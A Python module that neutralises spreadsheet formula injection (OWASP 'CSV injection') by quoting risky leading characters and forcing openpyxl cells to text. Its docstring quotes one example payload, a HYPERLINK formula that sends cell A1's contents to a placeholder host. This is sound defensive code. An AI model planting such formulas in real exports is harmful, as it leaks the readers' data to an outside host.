"""User text in spreadsheets: never a formula (OWASP "CSV injection").

Excel, WPS and LibreOffice run a cell that starts with `=`, `+`, `-` or `@` as a formula (a tab or a
carriage return in front is skipped when a CSV is opened), so an action typed as
`=HYPERLINK("http://x"&A1,"点击")` would become a live link or worse on the reader's machine. Every file
this app writes for a spreadsheet goes through the functions here.
"""
from __future__ import annotations

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    """Whether a spreadsheet could read this text as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value):
    """A value for a CSV file: text a spreadsheet could run gets a leading single quote (OWASP)."""
    return "'" + value if looks_like_formula(value) else value


def keep_text(workbook) -> None:
    """Mark every text cell of an openpyxl workbook as text: stored as a string, shown as typed, never run.

    openpyxl turns a string that starts with `=` into a formula; the cell's data type set back to
    string writes it as text, and `quotePrefix` keeps Excel from making it a formula when the cell is
    edited later (as if typed with a leading apostrophe, which is not shown).
    """
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
                    if looks_like_formula(cell.value):
                        cell.quotePrefix = True
